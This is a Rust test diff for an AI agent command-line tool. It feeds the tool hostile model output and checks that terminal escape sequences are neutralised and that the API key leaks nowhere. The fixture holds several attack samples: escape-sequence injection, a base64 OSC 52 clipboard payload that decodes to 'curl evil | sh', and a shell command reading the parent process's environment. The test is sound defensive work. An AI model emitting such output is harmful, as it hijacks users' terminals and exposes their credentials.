@@ -478,3 +478,59 @@ fn refusals_come_before_any_model_call() {
     );
     assert!(server.received().is_empty());
 }
+
+#[test]
+fn nothing_the_model_writes_drives_the_terminal_and_its_key_goes_nowhere() {
+    let env = TestEnv::new();
+    let repo = env.repo("project");
+    let key = "sk-test-4f9a0c2b7e1d4a8b9c3e5f6a7b8c9d0e";
+    let server = StandIn::start(vec![
+        openai::answer(
+            "\u{1b}[2J\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}cleared?",
+            &[
+                ("\u{1b}]0;owned\u{7}", json!({})),
+                (
+                    "shell-exec",
+                    json!({"script": "env; cat /proc/$PPID/environ"}),
+                ),
+            ],
+            (10, 10),
+        ),
+        openai::text("done \u{1b}[1A\u{1b}[2K"),
+    ]);
+    write(
+        &env.home().join(".config/nodwyn/config.toml"),
+        &format!(
+            "[model]\nbase_url = \"{}/v1\"\nname = \"m\"\napi_key_env = \"NODWYN_TEST_KEY\"\n",
+            server.url()
+        ),
+    );
+    let run = env
+        .nodwyn_command(&repo, &["run", "--dont-ask", "print things"])
+        .env("NODWYN_TEST_KEY", key)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&run.stderr);
+    let stdout = String::from_utf8_lossy(&run.stdout);
+    assert_eq!(run.status.code(), Some(0), "{stderr}");
+    assert!(
+        !stderr.contains('\u{1b}') && !stdout.contains('\u{1b}'),
+        "{stderr}{stdout}"
+    );
+    assert!(stderr.contains("\\u{1b}[2J"), "{stderr}");
+    // The key went in the request's header and nowhere else: not to the command the model ran,
+    // not to the model in a result, not to the log.
+    let received = server.received();
+    assert_eq!(
+        received[0].header("authorization"),
+        Some(format!("Bearer {key}").as_str())
+    );
+    let results = tool_results(&received[1].body);
+    assert!(results[0].starts_with("unknown_primitive: "), "{results:?}");
+    assert!(results[1].contains("PATH="), "{results:?}");
+    assert!(!received[1].body.to_string().contains(key));
+    for (_, records) in env.logs() {
+        assert!(!serde_json::to_string(&records).unwrap().contains(key));
+    }
+    assert!(!stderr.contains(key) && !stdout.contains(key));
+}
